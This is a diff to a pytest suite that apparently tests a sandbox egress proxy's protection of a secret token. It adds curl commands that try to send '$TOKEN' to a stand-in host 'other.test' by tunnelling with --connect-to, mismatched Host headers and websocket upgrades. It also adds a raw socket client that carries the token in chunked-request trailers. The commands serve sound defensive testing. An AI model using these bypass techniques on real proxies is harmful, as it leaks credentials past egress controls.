@@ -29,7 +29,7 @@ from corral.sdk import Sandbox
 from .dockerutil import DockerHarness
 from .egress_fixtures import Upstream, gateway_to, write_test_pki
 from .gateway_fixtures import KEY_A, RunningGateway
-from .test_command_egress import run
+from .test_command_egress import Ran, run
 
 pytestmark = pytest.mark.usefixtures("desktop_image", "egress_image")
 
@@ -232,6 +232,24 @@ EXFILTRATION = [
         " https://allowed.test/atk/redirect",
     ),
     ("method override header", 'curl -sk -X OPTIONS -H "X-Api-Key: $TOKEN" https://other.test/x18'),
+    (
+        "a tunnel to the bound host, a request for another",
+        'curl -sk --connect-to other.test:443:allowed.test:443 -H "Authorization: Bearer $TOKEN" https://other.test/x19',
+    ),
+    (
+        "a tunnel to another host, a request for the bound one",
+        'curl -sk --connect-to allowed.test:443:other.test:443 -H "Authorization: Bearer $TOKEN" https://allowed.test/x20',
+    ),
+    (
+        "absolute form for the bound host, Host header of another",
+        'curl -s -H "Host: other.test" -H "Authorization: Bearer $TOKEN" http://allowed.test/x21',
+    ),
+    (
+        "websocket upgrade to another host",
+        'curl -sk -H "Connection: Upgrade" -H "Upgrade: websocket"'
+        ' -H "Sec-WebSocket-Version: 13" -H "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="'
+        ' -H "Authorization: Bearer $TOKEN" https://other.test/x22',
+    ),
 ]
 
 
@@ -264,6 +282,87 @@ def test_a_placeholder_in_a_request_trailer_is_refused_as_misuse(sb: Sandbox) ->
         ' -H "x-t: $TOKEN" --data-binary @- https://other.test/trailer',
     )
     assert ran.output.strip() == "403", str(ran)
+
+
+RAW_CLIENT = r"""
+import base64, os, socket, ssl, sys, urllib.parse
+host, tls = sys.argv[1], sys.argv[2] == "tls"
+proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+auth = ""
+if proxy.username:
+    pair = urllib.parse.unquote(proxy.username) + ":" + urllib.parse.unquote(proxy.password or "")
+    auth = "Proxy-Authorization: Basic " + base64.b64encode(pair.encode()).decode() + "\r\n"
+request = os.environ["RAW_REQUEST"].replace("{TOKEN}", os.environ["TOKEN"]).encode()
+sock = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+if tls:
+    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n{auth}\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        head += sock.recv(1)
+    sock = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(sock, server_hostname=host)
+else:
+    request = request.replace(b"\r\n", b"\r\n" + auth.encode(), 1)
+sock.sendall(request)
+answer = b""
+try:
+    while chunk := sock.recv(65536):
+        answer += chunk
+except (TimeoutError, ssl.SSLError, OSError):
+    pass
+sys.stdout.write(answer.decode("utf-8", "replace"))
+"""
+
+
+def raw(sb: Sandbox, host: str, request: str, tls: bool = True) -> Ran:
+    """``request`` (``{TOKEN}`` standing for the placeholder) byte for byte through the proxy."""
+    command = f"cat > /tmp/raw.py <<'EOF'\n{RAW_CLIENT}\nEOF\npython3 /tmp/raw.py {host} {'tls' if tls else 'plain'}"
+    return run(sb, command, env={"RAW_REQUEST": request})
+
+
+def test_a_placeholder_in_a_real_request_trailer_is_refused_or_never_leaves(
+    runtime: DockerHarness, upstream: Upstream, sb: Sandbox
+) -> None:
+    """A chunked request's trailer is a header the proxy forwards after the body."""
+    before = len(raw_hits(runtime, upstream))
+    ran = raw(
+        sb,
+        "other.test",
+        "POST /trailer-out HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n"
+        "Connection: close\r\n\r\n1\r\na\r\n0\r\nx-t: {TOKEN}\r\n\r\n",
+    )
+    placeholder = sb.secrets["TOKEN"].encode()
+    out = [h for h in raw_hits(runtime, upstream)[before:] if placeholder in h["headers"]]
+    assert not out, (out, str(ran))
+
+
+def test_a_placeholder_in_a_bound_request_trailer_is_not_put_in_nor_refused_silently(
+    runtime: DockerHarness, upstream: Upstream, sb: Sandbox
+) -> None:
+    """To the bound host, in a trailer: either substituted and audited, or refused; never sent as is
+    without a record."""
+    before = len(raw_hits(runtime, upstream))
+    ran = raw(
+        sb,
+        "allowed.test",
+        "POST /trailer-bound HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nTrailer: x-t\r\n"
+        "Connection: close\r\n\r\n1\r\na\r\n0\r\nx-t: Bearer {TOKEN}\r\n\r\n",
+    )
+    hits = [h for h in raw_hits(runtime, upstream)[before:] if "trailer-bound" in h["path"]]
+    placeholder = sb.secrets["TOKEN"].encode()
+    assert not [h for h in hits if placeholder in h["headers"] or holds_value(h["headers"])], (hits, str(ran))
+
+
+def test_a_reflected_value_in_a_response_trailer_is_scrubbed(sb: Sandbox) -> None:
+    """(mitmproxy 12 refuses HTTP/1 trailers outright: a 502; the broker never looks at trailers, which
+    an HTTP/2 upstream, gRPC's ``grpc-message`` for one, could still hand back.)"""
+    ran = raw(
+        sb,
+        "allowed.test",
+        "GET /atk/trailer HTTP/1.1\r\nHost: allowed.test\r\nAuthorization: Bearer {TOKEN}\r\nTE: trailers\r\n"
+        "Connection: close\r\n\r\n",
+    )
+    assert ran.output.startswith("HTTP/1.1"), str(ran)
+    assert not holds_value(ran.output), ran.output
 
 
 def test_the_value_never_travels_in_cleartext(runtime: DockerHarness, upstream: Upstream, sb: Sandbox) -> None:
